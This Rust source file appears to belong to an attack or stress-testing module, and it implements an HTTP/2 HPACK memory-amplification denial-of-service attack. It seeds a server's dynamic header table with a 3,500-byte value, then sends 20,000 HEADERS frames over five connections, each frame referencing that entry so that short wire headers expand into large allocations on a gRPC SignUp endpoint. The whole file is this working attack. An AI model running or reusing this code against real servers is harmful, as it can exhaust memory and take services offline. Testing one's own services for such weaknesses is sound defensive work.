//! Heads that are short on the wire and long in memory.

use tokio_util::sync::CancellationToken;

use super::{Target, on_connections};
use crate::attack::wire::{END_HEADERS, HEADERS, beginning, frame, head, text};

const CONNECTIONS: usize = 5;
const CALLS: u32 = 20_000;
/// The value in the table of the connection, which has 4,096 bytes.
const VALUE_BYTES: usize = 3_500;
/// How often a head names it: it stays within the 8 KiB that a head may have.
const TIMES: usize = 2;
/// The field that was put into the table last (RFC 7541, section 2.3.3).
const LATEST: u8 = 0x80 | 0x3E;

pub(super) async fn run(target: Target, stop: CancellationToken) -> String {
    let call = head("encore.identity.v1.IdentityService/SignUp");
    let mut first = call.clone();
    first.push(0x40);
    text(&mut first, "x");
    text(&mut first, &"y".repeat(VALUE_BYTES));
    let others = [call, vec![LATEST; TIMES]].concat();
    let mut bytes = beginning(65_535);
    for (number, stream) in (1..).step_by(2).take(CALLS as usize).enumerate() {
        bytes.extend(frame(HEADERS, END_HEADERS, stream, if number == 0 { &first } else { &others }));
    }
    let ended = on_connections(CONNECTIONS, &target, bytes, &stop).await;
    format!("{ended} connections ended by the server")
}
